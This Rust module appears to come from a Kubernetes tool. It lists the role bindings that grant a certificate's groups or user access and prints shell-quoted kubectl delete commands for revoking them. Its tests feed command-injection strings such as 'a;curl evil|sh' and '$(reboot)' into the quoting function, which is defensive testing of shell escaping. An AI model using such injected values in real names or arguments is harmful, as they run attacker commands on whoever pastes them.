//! What stays open to the holder of a certificate: the bindings that name its groups or its user.

use crate::{
    api::{ApiError, Connection},
    grants::Grant,
};
use k8s_openapi::api::rbac::v1::{ClusterRoleBinding, RoleBinding, RoleRef, Subject};
use kube::{Api, Resource, ResourceExt as _, api::ListParams};
use serde::{Serialize, de::DeserializeOwned};
use std::fmt::Debug;

/// How many are read at once.
const PAGE: u32 = 250;
/// How many are shown.
const SHOWN: usize = 20;
/// What every certificate gives.
const EVERYONE: &str = "system:authenticated";

/// The bindings that were found.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub(super) struct Opened {
    /// Why they are not all known.
    #[serde(skip_serializing_if = "Option::is_none")]
    note: Option<String>,
    bindings: Vec<Binding>,
}

/// A binding.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
struct Binding {
    /// The namespace; `None`: a ClusterRoleBinding.
    #[serde(skip_serializing_if = "Option::is_none")]
    namespace: Option<String>,
    name: String,
    role: String,
    /// The group or user it names.
    subject: String,
}

impl Opened {
    /// For people, a line each.
    pub(super) fn lines(&self) -> Vec<String> {
        let mut lines: Vec<String> = self.bindings.iter().take(SHOWN).map(line).collect();
        if let Some(more @ 1..) = self.bindings.len().checked_sub(SHOWN) {
            lines.push(format!("and {more} more: --output json has all"));
        }
        if lines.is_empty() && self.note.is_none() {
            lines.push("nothing: no other binding names its groups or its user".to_owned());
        }
        lines.extend(self.note.clone());
        lines
    }
}

fn line(binding: &Binding) -> String {
    let Binding {
        name,
        role,
        subject,
        ..
    } = binding;
    let command = match &binding.namespace {
        Some(namespace) => delete(namespace, name),
        None => format!("kubectl delete clusterrolebinding {}", word(name)),
    };
    format!("{role} to {subject}; ends for everyone whom it names by: {command}")
}

/// What removes a RoleBinding by hand.
pub(super) fn delete(namespace: &str, name: &str) -> String {
    format!(
        "kubectl -n {} delete rolebinding {}",
        word(namespace),
        word(name)
    )
}

/// A word of a command that someone may paste into a shell: Kubernetes takes nearly any character in a binding's name.
fn word(text: &str) -> String {
    let is_safe = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':');
    if !text.is_empty() && !text.starts_with('-') && text.chars().all(is_safe) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// The bindings beside the grant's own.
pub(super) async fn of(connection: &Connection, grant: &Grant) -> Opened {
    let own: Vec<String> = grant.role_bindings().collect();
    let mut opened = Opened::default();
    let names = |subjects: Option<&Vec<Subject>>| {
        let mut named = subjects.into_iter().flatten();
        named
            .find(|subject| match subject.kind.as_str() {
                "Group" => subject.name != EVERYONE && grant.groups.contains(&subject.name),
                "User" => subject.name == grant.user,
                _ => false,
            })
            .map(|subject| format!("{} {}", subject.kind.to_lowercase(), subject.name))
    };
    let role = |role: &RoleRef| format!("{} {}", role.kind, role.name);
    let both = async {
        each(connection, |binding: &RoleBinding| {
            let namespace = binding.namespace().unwrap_or_default();
            let is_own = own.contains(&format!("{namespace}/{}", binding.name_any()));
            if let (false, Some(subject)) = (is_own, names(binding.subjects.as_ref())) {
                opened.bindings.push(Binding {
                    namespace: Some(namespace),
                    name: binding.name_any(),
                    role: role(&binding.role_ref),
                    subject,
                });
            }
        })
        .await?;
        each(connection, |binding: &ClusterRoleBinding| {
            if let Some(subject) = names(binding.subjects.as_ref()) {
                opened.bindings.push(Binding {
                    namespace: None,
                    name: binding.name_any(),
                    role: role(&binding.role_ref),
                    subject,
                });
            }
        })
        .await
    };
    if let Err(error) = both.await {
        opened.note = Some(match error {
            ApiError::Refused {
                code: Some(403 | 404),
                ..
            } => "could not tell: you may not list RoleBindings and ClusterRoleBindings here; those that name its groups \
                  stay in force"
                .to_owned(),
            other => format!("could not tell: {other}"),
        });
    }
    opened
}

/// Reads all objects of a kind, page by page.
async fn each<K>(connection: &Connection, mut see: impl FnMut(&K)) -> Result<(), ApiError>
where
    K: Resource<DynamicType = ()> + Clone + Debug + DeserializeOwned,
{
    let api: Api<K> = Api::all(connection.client());
    let mut parameters = ListParams::default().limit(PAGE);
    loop {
        let page = connection.within(api.list(&parameters)).await?;
        page.items.iter().for_each(&mut see);
        match page.metadata.continue_.filter(|token| !token.is_empty()) {
            Some(token) => parameters = parameters.continue_token(&token),
            None => return Ok(()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_that_someone_chose_runs_nothing_when_the_command_is_pasted() {
        assert_eq!(
            delete("payments", "system:a.b-c_1"),
            "kubectl -n payments delete rolebinding system:a.b-c_1"
        );
        for (name, expected) in [
            ("a;curl evil|sh", "'a;curl evil|sh'"),
            ("$(reboot)", "'$(reboot)'"),
            ("it's", r"'it'\''s'"),
            ("--all", "'--all'"),
            ("", "''"),
        ] {
            assert_eq!(word(name), expected);
        }
    }

    #[test]
    fn an_empty_list_is_not_taken_for_an_unknown_one() {
        assert!(Opened::default().lines()[0].starts_with("nothing"));
        let unknown = Opened {
            note: Some("could not tell".into()),
            ..Opened::default()
        };
        assert_eq!(unknown.lines(), ["could not tell"]);
    }
}
